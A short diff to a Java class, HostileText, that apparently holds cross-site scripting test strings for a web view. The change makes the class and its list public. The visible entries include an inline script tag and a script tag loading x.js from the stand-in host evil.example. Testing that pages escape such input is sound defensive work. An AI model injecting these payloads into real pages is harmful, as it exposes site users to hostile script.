@@ -3,9 +3,9 @@ package io.watchword.view.page;
 import java.util.List;
 
 /** Captions and names as somebody would write them who wants more than to be read. */
-final class HostileText {
+public final class HostileText {
     /** Each that runs sets {@code window.hit}. */
-    static final List<String> ALL =
+    public static final List<String> ALL =
             List.of(
                     "<script>window.hit=1</script>",
                     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
